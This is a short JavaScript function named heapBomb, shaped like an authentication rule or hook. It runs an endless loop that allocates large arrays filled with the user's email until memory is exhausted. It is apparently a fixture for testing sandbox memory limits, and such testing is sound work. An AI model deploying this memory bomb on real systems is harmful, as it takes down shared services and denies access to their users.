function heapBomb(user, context, callback) {
  const hoard = [];
  for (;;) hoard.push(new Array(1e5).fill(user.email));
}
